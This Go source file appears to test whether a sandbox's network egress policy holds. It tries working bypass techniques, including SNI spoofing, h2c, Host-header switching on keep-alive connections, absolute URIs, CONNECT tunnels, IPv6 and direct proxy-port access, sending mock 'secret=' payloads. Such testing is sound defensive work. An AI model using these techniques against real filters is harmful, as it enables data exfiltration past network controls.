package main

import (
	"bufio"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"strings"
	"sync"
	"syscall"
	"time"
)

// dial connects to dst over TCP within cfg.timeout; control, if set, runs
// on the socket before connect (to set SO_MARK).
func dial(cfg *config, dst netip.AddrPort, control func(network, address string, c syscall.RawConn) error) (net.Conn, error) {
	d := net.Dialer{Timeout: cfg.timeout, Control: control}
	return d.Dial("tcp", dst.String())
}

// sendAndWatch writes data to c, then waits up to wait for a reply or the
// connection's end, and records what happened under the name what.
func sendAndWatch(t *tally, what string, c net.Conn, data []byte, wait time.Duration) {
	n, err := c.Write(data)
	t.wrote(n)
	if err != nil {
		t.fail(what+" write", err)
		return
	}
	c.SetReadDeadline(time.Now().Add(wait))
	buf := make([]byte, 512)
	n, err = c.Read(buf)
	switch {
	case n > 0:
		t.note("%s: reply %q", what, firstLine(buf[:n]))
	case errors.Is(err, os.ErrDeadlineExceeded):
		t.note("%s: sent, no reply, still open", what)
	default:
		t.fail(what+" after write", err)
	}
}

func firstLine(b []byte) string {
	s, _, _ := strings.Cut(string(b), "\n")
	if len(s) > 80 {
		s = s[:80] + "…"
	}
	return strings.TrimSpace(s)
}

func tryTCP(cfg *config) row {
	var t tally
	dst := netip.AddrPortFrom(cfg.denied4, cfg.tcpPort)
	c, err := dial(cfg, dst, nil)
	if err != nil {
		t.fail("connect "+dst.String(), err)
		return t.row("tcp")
	}
	defer c.Close()
	sendAndWatch(&t, dst.String(), c, payload("tcp"), cfg.timeout)
	return t.row("tcp")
}

func trySNISpoof(cfg *config) row {
	var t tally
	dst := netip.AddrPortFrom(cfg.denied4, cfg.httpsPort)
	raw, err := dial(cfg, dst, nil)
	if err != nil {
		t.fail("connect "+dst.String(), err)
		return t.row("sni-spoof")
	}
	defer raw.Close()
	counted := &countingConn{Conn: raw}
	c := tls.Client(counted, &tls.Config{ServerName: cfg.allowedName, InsecureSkipVerify: true})
	c.SetDeadline(time.Now().Add(3 * cfg.timeout))
	if err := c.Handshake(); err != nil {
		t.wrote(counted.written)
		t.fail(fmt.Sprintf("TLS handshake with SNI %s to %s", cfg.allowedName, dst), err)
		return t.row("sni-spoof")
	}
	req := fmt.Sprintf("POST /escape-sni-spoof HTTP/1.1\r\nHost: %s\r\nContent-Length: 40\r\nConnection: close\r\n\r\n%-40s", cfg.allowedName, "secret="+randomHex(8))
	if _, err := io.WriteString(c, req); err != nil {
		t.wrote(counted.written)
		t.fail("request", err)
		return t.row("sni-spoof")
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	t.wrote(counted.written)
	if err != nil {
		t.fail("response", err)
		return t.row("sni-spoof")
	}
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 512))
	resp.Body.Close()
	t.note("HTTP %d, answered by %q", resp.StatusCode, firstLine(body))
	return t.row("sni-spoof")
}

// countingConn counts the bytes written through it (TLS records included).
type countingConn struct {
	net.Conn
	written int
}

func (c *countingConn) Write(p []byte) (int, error) {
	n, err := c.Conn.Write(p)
	c.written += n
	return n, err
}

func tryH2C(cfg *config) row {
	var t tally
	dst := netip.AddrPortFrom(cfg.denied4, cfg.httpPort)
	var conns []*countingConn
	var mu sync.Mutex
	protocols := new(http.Protocols)
	protocols.SetUnencryptedHTTP2(true) // and not HTTP1: prior knowledge
	tr := &http.Transport{
		Protocols: protocols,
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			c, err := dial(cfg, dst, nil)
			if err != nil {
				return nil, err
			}
			cc := &countingConn{Conn: c}
			mu.Lock()
			conns = append(conns, cc)
			mu.Unlock()
			return cc, nil
		},
	}
	defer tr.CloseIdleConnections()
	client := &http.Client{Transport: tr, Timeout: 3 * cfg.timeout}
	resp, err := client.Post("http://"+cfg.deniedName+"/escape-h2c", "text/plain", strings.NewReader(string(payload("h2c"))))
	mu.Lock()
	for _, c := range conns {
		t.wrote(c.written)
	}
	mu.Unlock()
	if err != nil {
		t.fail("h2c POST to "+dst.String(), err)
		return t.row("h2c")
	}
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 512))
	resp.Body.Close()
	t.note("%s %d, answered by %q", resp.Proto, resp.StatusCode, firstLine(body))
	return t.row("h2c")
}

// httpExchange sends raw requests on one connection to dst, reading one
// response after each, and notes each response's status.
func httpExchange(t *tally, cfg *config, dst netip.AddrPort, requests ...string) {
	c, err := dial(cfg, dst, nil)
	if err != nil {
		t.fail("connect "+dst.String(), err)
		return
	}
	defer c.Close()
	br := bufio.NewReader(c)
	for i, req := range requests {
		c.SetDeadline(time.Now().Add(3 * cfg.timeout))
		n, err := io.WriteString(c, req)
		t.wrote(n)
		what := fmt.Sprintf("request %d", i+1)
		if err != nil {
			t.fail(what, err)
			return
		}
		resp, err := http.ReadResponse(br, nil)
		if err != nil {
			t.fail(what, err)
			return
		}
		body, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
		resp.Body.Close()
		t.note("%s: HTTP %d %q", what, resp.StatusCode, firstLine(body))
	}
}

func tryKeepAliveHost(cfg *config) row {
	var t tally
	httpExchange(&t, cfg, netip.AddrPortFrom(cfg.allowed4, cfg.httpPort),
		fmt.Sprintf("GET /escape-keepalive-1 HTTP/1.1\r\nHost: %s\r\n\r\n", cfg.allowedName),
		fmt.Sprintf("POST /escape-keepalive-2 HTTP/1.1\r\nHost: %s\r\nContent-Length: 40\r\n\r\n%-40s", cfg.deniedName, "secret="+randomHex(8)),
	)
	return t.row("keepalive-host")
}

func tryAbsoluteURI(cfg *config) row {
	var t tally
	httpExchange(&t, cfg, netip.AddrPortFrom(cfg.allowed4, cfg.httpPort),
		fmt.Sprintf("POST http://%s/escape-absolute-uri HTTP/1.1\r\nHost: %s\r\nContent-Length: 40\r\n\r\n%-40s", cfg.deniedName, cfg.allowedName, "secret="+randomHex(8)),
	)
	return t.row("absolute-uri")
}

func tryConnect(cfg *config) row {
	var t tally
	dst := netip.AddrPortFrom(cfg.allowed4, cfg.httpPort)
	c, err := dial(cfg, dst, nil)
	if err != nil {
		t.fail("connect "+dst.String(), err)
		return t.row("connect")
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(3 * cfg.timeout))
	req := fmt.Sprintf("CONNECT %s:%d HTTP/1.1\r\nHost: %s\r\n\r\n", cfg.deniedName, cfg.tcpPort, cfg.allowedName)
	n, err := io.WriteString(c, req)
	t.wrote(n)
	if err != nil {
		t.fail("CONNECT", err)
		return t.row("connect")
	}
	br := bufio.NewReader(c)
	resp, err := http.ReadResponse(br, &http.Request{Method: http.MethodConnect})
	if err != nil {
		t.fail("CONNECT response", err)
		return t.row("connect")
	}
	t.note("CONNECT: HTTP %d", resp.StatusCode)
	if resp.StatusCode/100 == 2 {
		n, err := c.Write(payload("connect"))
		t.wrote(n)
		if err != nil {
			t.fail("payload through the tunnel", err)
		}
	}
	return t.row("connect")
}

func tryIPv6(cfg *config) row {
	var t tally
	if !cfg.denied6.IsValid() {
		t.note("skipped: no -denied6")
		return t.row("ipv6")
	}
	dst := netip.AddrPortFrom(cfg.denied6, cfg.tcpPort)
	if c, err := dial(cfg, dst, nil); err != nil {
		t.fail("TCP connect "+dst.String(), err)
	} else {
		sendAndWatch(&t, "TCP "+dst.String(), c, payload("ipv6"), cfg.timeout)
		c.Close()
	}
	udpExchange(&t, cfg, netip.AddrPortFrom(cfg.denied6, cfg.udpPort), payload("ipv6"), nil)
	return t.row("ipv6")
}

// ownAddrs are the sandbox's own addresses on its interfaces other than
// loopback.
func ownAddrs() []netip.Addr {
	var out []netip.Addr
	ifs, _ := net.Interfaces()
	for _, ifc := range ifs {
		if ifc.Flags&net.FlagLoopback != 0 || ifc.Flags&net.FlagUp == 0 {
			continue
		}
		addrs, _ := ifc.Addrs()
		for _, a := range addrs {
			if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().IsGlobalUnicast() {
				out = append(out, p.Addr())
			}
		}
	}
	return out
}

func tryProxyPort(cfg *config) row {
	var t tally
	if cfg.proxyPort4 == 0 && cfg.proxyPort6 == 0 {
		t.note("skipped: no -proxy-ports")
		return t.row("proxy-port")
	}
	var targets []netip.AddrPort
	if cfg.proxyPort4 != 0 {
		targets = append(targets, netip.AddrPortFrom(netip.MustParseAddr("127.0.0.1"), cfg.proxyPort4))
	}
	if cfg.proxyPort6 != 0 {
		targets = append(targets, netip.AddrPortFrom(netip.IPv6Loopback(), cfg.proxyPort6))
	}
	for _, a := range ownAddrs() {
		if a.Is4() && cfg.proxyPort4 != 0 {
			targets = append(targets, netip.AddrPortFrom(a, cfg.proxyPort4))
		} else if a.Is6() && cfg.proxyPort6 != 0 {
			targets = append(targets, netip.AddrPortFrom(a, cfg.proxyPort6))
		}
	}
	for _, dst := range targets {
		c, err := dial(cfg, dst, nil)
		if err != nil {
			t.fail("connect "+dst.String(), err)
			continue
		}
		req := fmt.Sprintf("POST /escape-proxy-port HTTP/1.1\r\nHost: %s\r\nContent-Length: 40\r\n\r\n%-40s", cfg.deniedName, "secret="+randomHex(8))
		sendAndWatch(&t, dst.String(), c, []byte(req), cfg.timeout)
		c.Close()
	}
	return t.row("proxy-port")
}

func trySilent(cfg *config) row {
	var t tally
	dst := netip.AddrPortFrom(cfg.denied4, cfg.silentPort)
	// Connect all at once: where connections are silently dropped, one
	// after another would cost a timeout each.
	all := make([]net.Conn, cfg.silentConns)
	errs := make([]error, cfg.silentConns)
	var wg sync.WaitGroup
	for i := range all {
		wg.Go(func() { all[i], errs[i] = dial(cfg, dst, nil) })
	}
	wg.Wait()
	var conns []net.Conn
	var failed counted
	for i, c := range all {
		if errs[i] != nil {
			failed.add("connect " + dst.String() + ": " + describe(errs[i]))
		} else {
			conns = append(conns, c)
		}
	}
	defer func() {
		for _, c := range conns {
			c.Close()
		}
	}()
	t.errs = append(t.errs, failed.lines()...)
	if len(conns) == 0 {
		return t.row("silent")
	}
	time.Sleep(cfg.hold)
	// One byte on each, then see which connections are still open.
	var writeErrs int
	for _, c := range conns {
		n, err := c.Write([]byte("x"))
		t.wrote(n)
		if err != nil {
			writeErrs++
		}
	}
	deadline := time.Now().Add(cfg.timeout / 2)
	open, closed := 0, 0
	for _, c := range conns {
		c.SetReadDeadline(deadline)
		_, err := c.Read(make([]byte, 64))
		if errors.Is(err, os.ErrDeadlineExceeded) {
			open++
		} else {
			closed++
		}
	}
	t.note("%d connections held %v, then one byte each (%d writes failed): %d still open, %d closed or reset", len(conns), cfg.hold, writeErrs, open, closed)
	return t.row("silent")
}

// control makes one request the policy allows: proof that the sandbox
// reaches the fake internet at all, so that "0 bytes" means blocked, not
// broken.
func control(cfg *config) row {
	var t tally
	httpExchange(&t, cfg, netip.AddrPortFrom(cfg.allowed4, cfg.httpPort),
		fmt.Sprintf("GET /escape-control HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", cfg.allowedName))
	return t.row("control")
}
